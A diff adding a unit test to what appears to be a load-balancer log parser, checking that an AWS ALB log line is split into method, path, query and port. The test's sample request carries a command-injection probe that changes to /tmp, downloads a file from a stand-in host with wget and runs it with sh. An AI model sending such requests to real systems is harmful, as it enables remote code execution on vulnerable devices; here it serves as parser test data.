@@ -204,6 +204,16 @@ def test_a_pasted_layout_without_a_time_or_a_form_is_wrong_usage(layout: str) ->
         read(["x"], log_format=layout)
 
 
+def test_a_target_with_blanks_that_a_balancer_served_is_a_call() -> None:
+    line = FORMATS["aws_alb"].example.split("\n")[0]
+    begin, _, end = line.partition('"')
+    (call,) = read(
+        [f'{begin}"GET http://192.0.2.1:80/shell?cd+/tmp;wget+ a.example/x;sh HTTP/1.1"{end.partition(chr(34))[2]}']
+    )
+    assert (call["method"], call["path"], call["query"]) == ("GET", "/shell", "cd+/tmp;wget+ a.example/x;sh")
+    assert (call["server_port"], call["parse_status"]) == (80, "ok")
+
+
 def test_a_creation_time_in_another_age_gives_an_alb_call_no_duration() -> None:
     line = sample("aws_alb").read_bytes().split(b"\n")[2]
     assert b" -1 -1 -1 " in line
